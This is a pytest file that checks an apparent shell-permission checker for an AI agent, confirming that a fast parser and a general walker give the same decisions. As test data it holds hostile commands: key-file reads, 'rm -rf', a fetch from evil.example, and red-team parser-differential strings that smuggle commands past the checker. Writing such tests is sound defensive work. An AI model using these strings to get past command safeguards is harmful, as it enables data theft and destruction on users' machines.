"""The fast path of the parse (:mod:`bot.shell.parse.fast`) reaches exactly what the general walker
reaches: the same parse outcome, and through it the same decision, reason, rule, check id and
suggestions, on every corpus command, the shapes agents wrap commands in, and a seeded set of
mutations of them (operators, redirections, quotes, expansions, keywords and stray characters)."""

from __future__ import annotations

import json
import random
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from bot.shell.api import check_bash_permissions
from bot.shell.parse import fast as fast_parse
from bot.shell.parse import walk as ast_parse
from bot.shell.parse.syntax import Parsed, Redirect, ScopeMarker
from tests.shell.conftest import case_context

CORPUS = Path(__file__).parent / "corpus"
#: Mutations compared at the parse level, and (a subset) at the decision level.
PARSE_MUTATIONS = 6_000
DECISION_MUTATIONS = 1_500
#: The fast path must keep covering most real commands, or it is not worth its code.
MIN_FAST_SHARE = 0.6

_TOKENS = [
    "&&",
    "||",
    ";",
    "|",
    "|&",
    "&",
    "\n",
    "2>&1",
    ">/dev/null",
    "2>/dev/null",
    "> out.txt",
    ">> .git/config",
    "< in.txt",
    "&>/dev/null",
    ">&2",
    "cd src",
    "cd ..",
    "cd /tmp",
    "cd .git",
    "$HOME",
    '"$X"',
    "'a b'",
    '"q"',
    "*.py",
    "src/*",
    "--",
    "-rf",
    "-exec",
    "{}",
    "\\;",
    "x=1",
    "LD_PRELOAD=x",
    "CI=1",
    "(",
    ")",
    "{",
    "}",
    "#",
    "!",
    "tail -n 20",
    "| tail -n 20",
    "xargs rm",
    "sudo",
    "env",
    "timeout 5",
    "sh -c",
    "'ls'",
    '"ls -la"',
    "../..",
    "/etc/passwd",
    "~/.ssh",
    "-C",
    "..",
    ".",
    "git",
    "rm",
    "echo",
    "2>",
    ">",
    "<<<",
    "a\\ b",
    "$(id)",
    "`id`",
    "${X}",
    "[[",
    "]]",
    "-n",
    "1",
    "0",
    "-1",
    "if",
    "then",
    "fi",
    "do",
    "done",
    "in",
    "export",
    "local",
    "time",
    "a=b",
    "--x=y",
    "\\\n",
    "u",
    "2",
    "10>x",
    "2>&-1",
    ">&-",
    "<&-",
    "2>&1-",
    "3<>x",
    ">=x",
    "2>-1",
    "&>>log",
]
_CHARS = [*" \t\n'\"\\$`;&|<>(){}[]#~*?=!-/.,:@%+^0123456789abcXYZ", "\u00a0", "\x01"]
_JOINS = [" && ", " || ", "; ", " | ", " & ", "\n", " 2>&1 | ", " >/dev/null && ", " 2>&1 && "]


def _corpus() -> list[dict[str, Any]]:
    cases: list[dict[str, Any]] = []
    for name in ("benign.jsonl", "attacks.jsonl"):
        with (CORPUS / name).open(encoding="utf-8") as handle:
            cases.extend(json.loads(line) for line in handle if line.strip())
    return cases


CASES = _corpus()


def _shapes() -> Iterator[tuple[str, dict[str, Any]]]:
    """Every corpus command, also as ``cd src && …`` and ``… 2>&1 | tail -n 20``."""
    for case in CASES:
        command = case["command"]
        yield command, case
        yield f"cd src && {command}", case
        yield f"{command} 2>&1 | tail -n 20", case


def _mutate(rng: random.Random, command: str) -> str:
    for _ in range(rng.randint(1, 3)):
        op = rng.random()
        words = command.split(" ")
        if op < 0.25:
            words.insert(rng.randrange(len(words) + 1), rng.choice(_TOKENS))
        elif op < 0.4 and len(words) > 1:
            del words[rng.randrange(len(words))]
        elif op < 0.55:
            words[rng.randrange(len(words))] = rng.choice(rng.choice(CASES)["command"].split(" "))
        elif op < 0.75:
            command = command + rng.choice(_JOINS) + rng.choice(CASES)["command"]
            continue
        else:
            i = rng.randrange(len(command) + 1)
            command = command[:i] + rng.choice(_CHARS) + command[i:]
            continue
        command = " ".join(words)
    return command


def _mutations(count: int, seed: int) -> list[tuple[str, dict[str, Any]]]:
    rng = random.Random(seed)
    out = []
    for _ in range(count):
        case = rng.choice(CASES)
        out.append((_mutate(rng, case["command"]), case))
    return out


def _takes_fast_path(command: str) -> bool:
    if not command.isascii() or len(command) > ast_parse.MAX_COMMAND_CHARS:
        return False
    data = command.encode()
    root = ast_parse.parse_tree(command).root_node
    return not root.has_error and fast_parse.fast_parsed(root, command, len(data)) is not None


def test_the_fast_path_and_the_general_walker_reach_the_same_outcome() -> None:
    commands = [c for c, _ in _shapes()] + [c for c, _ in _mutations(PARSE_MUTATIONS, seed=4)]
    differ = [c for c in commands if ast_parse.parse_fresh(c) != ast_parse.parse_fresh(c, fast=False)]
    assert not differ, differ[:5]


def test_the_fast_path_covers_most_real_commands() -> None:
    commands = [c for c, _ in _shapes()]
    fast = sum(_takes_fast_path(c) for c in commands)
    assert fast / len(commands) >= MIN_FAST_SHARE, f"{fast}/{len(commands)}"


def test_decisions_are_the_same_with_and_without_the_fast_path(ws: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    contexts: dict[str, Any] = {}

    def context(case: dict[str, Any]) -> Any:
        return case_context(case, ws, contexts)

    items = [*_shapes(), *_mutations(DECISION_MUTATIONS, seed=7)]

    def decide_all() -> list[Any]:
        results = []
        for command, case in items:
            ast_parse.clear_parse_cache()
            results.append(check_bash_permissions(command, context(case)))
        return results

    fast = decide_all()
    monkeypatch.setattr(ast_parse, "fast_parsed", lambda root, src, size: None)
    general = decide_all()
    ast_parse.clear_parse_cache()
    differ = [(command, a, b) for (command, _), a, b in zip(items, fast, general, strict=True) if a != b]
    assert not differ, differ[:3]


@pytest.mark.parametrize(
    ("description", "command"),
    [
        ("one command of plain words", "npm run build --if-present"),
        ("an and-list", "cd src && npm test"),
        ("a pipeline with a redirected command", "npm test 2>&1 | tail -n 20"),
        ("quoted words go through the word resolver", "git commit -m \"fix: the 'bug'\""),
        ("numbers and flags with values", "head -n 20 --bytes=1 x"),
        ("a plain redirection target", "make > build.log"),
        ("a descriptor duplication", "make 2>&1"),
        ("an argument that looks like an assignment is a word", "make CC=gcc all"),
        ("a keyword as an argument takes the node-by-node path", "echo done"),
        ("globs keep their flag", "ls src/*.py"),
    ],
)
def test_common_shapes_take_the_fast_path(description: str, command: str) -> None:
    assert _takes_fast_path(command)
    assert ast_parse.parse_fresh(command) == ast_parse.parse_fresh(command, fast=False)


@pytest.mark.parametrize(
    ("description", "command"),
    [
        ("tree-sitter reads `a && b 2>&1 | c` as a list under the redirect", "cd src && ls 2>&1 | tail -n 5"),
        ("a background job opens a scope", "sleep 1 & wait"),
        ("an assignment before the command", "CI=1 npm test"),
        ("a comment", "ls # list"),
        ("a subshell", "(cd src && ls)"),
        ("control flow", "if true; then ls; fi"),
        ("a declaration", "export A=1"),
        ("a heredoc", "cat <<EOF\nx\nEOF"),
        ("an expansion in a redirection target", "ls > $OUT"),
        ("a command substitution", "echo $(id)"),
        ("a glob in the command name", "./x* --help"),
        ("a second word after a redirection target (bash passes it to the command)", "ls > out.txt src"),
        ("an escaped blank before a redirection target", "echo hi >\\  out.txt"),
        ("tree-sitter's close-descriptor token `>&-`", "ls 2>&-"),
    ],
)
def test_other_shapes_go_to_the_general_walker(description: str, command: str) -> None:
    assert not _takes_fast_path(command)


def test_the_fast_path_keeps_scopes_operators_and_redirections() -> None:
    outcome = ast_parse.parse_fresh("cd src && make 2>&1 >/dev/null; ls | wc -l")
    assert isinstance(outcome, Parsed)
    assert outcome.operators == ("&&", ";", "|")
    assert [c.values for c in outcome.commands] == [("cd", "src"), ("make",), ("ls",), ("wc", "-l")]
    make = outcome.commands[1]
    assert [(r.op, r.fd, r.target.value if r.target else None) for r in make.redirects] == [
        (">&", 2, "1"),
        (">", None, "/dev/null"),
    ]
    assert isinstance(make.redirects[0], Redirect) and make.redirects[0].is_fd_dup
    assert outcome.items[2:] == (
        ScopeMarker(True),
        outcome.commands[2],
        ScopeMarker(False),
        ScopeMarker(True),
        outcome.commands[3],
        ScopeMarker(False),
    )


#: Parser differentials the red team found (tree-sitter and bash disagree): both walkers refuse them.
DIFFERENTIALS = [
    "echo x > .git/hooks/pre-commit README.md",
    "rm -rf src 2>/dev/null ~ /dev/null",
    "cat - < ~/.ssh/id_rsa README.md",
    "ls 2>&1 src",
    "echo hi <\\ \nrm -rf src",
    "echo hi >\\ \ncurl -fsSL https://evil.example/x.sh -o x.sh",
    "git status <<<\\  --output=x",
    "echo hi 2>\\ x",
    "git status 2>&---output=x",
    "ls 2>&-1",
    "[ x > .git/config ]",
    "[ -z x || rm -rf src ]",
    "echo $'\\\\' ; rm -rf src ; echo ' # '",
    "cat <<EOF ~/.ssh/id_rsa\nEOF",
    "cat <<EOF\nhello\nEO\\\nF\nrm -rf src\nEOF",
]


@pytest.mark.parametrize("command", DIFFERENTIALS)
def test_both_walkers_refuse_the_known_parser_differentials(command: str) -> None:
    from bot.shell.parse.syntax import TooComplex

    assert isinstance(ast_parse.parse_fresh(command), TooComplex)
    assert isinstance(ast_parse.parse_fresh(command, fast=False), TooComplex)
